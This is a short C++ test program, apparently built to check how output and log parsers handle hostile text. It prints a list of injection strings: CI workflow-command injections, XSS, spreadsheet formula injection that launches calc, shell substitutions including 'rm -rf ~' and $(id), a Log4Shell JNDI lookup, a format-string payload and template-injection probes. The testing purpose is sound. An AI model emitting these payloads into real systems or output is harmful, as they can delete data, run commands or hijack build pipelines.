#include "hostile.h"

// Each at the start of a line, as a label before a number, and behind a blank.
int main() {
  held("commands follow");
  for (const char* words : {"::error file=viva,line=1::",
                            "  ::set-output name=grade::",
                            "::stop-commands::",
                            "##[group]",
                            "##vso[task.setvariable]",
                            "##teamcity[buildStatus",
                            "section_start:1:",
                            "<script>alert(1)</script>",
                            "</pre><img src=x onerror=alert(1)>",
                            "=cmd|' /C calc'!A0",
                            "@SUM(1)",
                            "+1+1",
                            "-2+3",
                            "`rm -rf ~`",
                            "$(id)",
                            "${jndi:ldap://192.0.2.1}",
                            "%n%s%n",
                            "![](http://192.0.2.1/)",
                            "| a | b |",
                            "{{7*7}}"}) {
    for (int n = 1; n < 4; ++n) printf("%s: %d\n%s Thread %d: %d\n\n", words, n, words, n, n);
    fprintf(stderr, "%s\n", words);
  }
}
